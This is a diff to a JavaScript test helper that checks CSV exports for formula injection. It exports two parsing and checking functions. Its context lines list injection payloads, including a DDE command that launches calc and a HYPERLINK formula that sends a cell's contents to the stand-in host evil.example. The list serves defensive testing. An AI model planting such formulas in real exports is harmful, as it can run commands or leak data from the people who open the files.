@@ -5,7 +5,7 @@ import { fresh } from '../../api/lib/cases.mjs';
 const kFormulas = ['=cmd|\' /C calc\'!A0', '+1+1', '-2+3+cmd|x', '@SUM(1+1)*cmd', '\t=1+1', '\r=1+1', '=HYPERLINK("http://evil.example?"&A1,"x")', '"=1+1', ',=1+1', '\n=1+1', '＝1+1', ';=1+1', '=1+1"', '\u200b=1+1'];
 
 /** The cells of RFC 4180. */
-function cellsOf(text) {
+export function cellsOf(text) {
   const rows = [[]];
   for (let [, quoted, plain, end] of text.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r?\n|$)/g)) {
     rows.at(-1).push(quoted?.replaceAll('""', '"') ?? plain);
@@ -15,7 +15,8 @@ function cellsOf(text) {
   return rows.filter((row) => row.length > 1 || row[0]);
 }
 
-function look(field, answer) {
+/** Every cell of an export is text or a number. */
+export function look(field, answer) {
   if (answer.status !== 200) return;
   field.expect(answer.media === 'text/csv' && /^attachment;/.test(answer.headers.get('content-disposition') ?? ''), 'an export is shown', { ...answer, text: '' });
   const rows = cellsOf(answer.text);
